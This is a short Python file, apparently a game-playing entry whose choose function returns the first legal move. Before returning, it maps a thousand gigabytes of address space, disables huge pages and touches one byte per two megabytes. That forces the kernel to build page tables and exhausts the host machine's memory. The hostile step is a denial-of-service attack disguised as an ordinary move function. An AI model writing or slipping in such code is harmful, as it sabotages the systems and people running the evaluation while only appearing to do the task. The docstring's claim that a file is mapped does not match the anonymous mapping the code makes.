"""Takes memory for page tables: it maps one page of a file everywhere, and looks at one in each two megabytes."""

import ctypes
import mmap
import os

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
GIGABYTE, TABLE = 1 << 30, 1 << 21


def choose(position):
    for _ in range(1000):  # two megabytes of tables each
        at = LIBC.mmap(None, GIGABYTE, mmap.PROT_READ, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, -1, 0)
        if at == ctypes.c_void_p(-1).value:
            os._exit(9)
        LIBC.madvise(ctypes.c_void_p(at), ctypes.c_size_t(GIGABYTE), 15)  # no huge pages, which need fewer tables
        for offset in range(0, GIGABYTE, TABLE):
            ctypes.c_ubyte.from_address(at + offset).value  # noqa: B018  to look is to have a table
    return position.legal_moves[0]
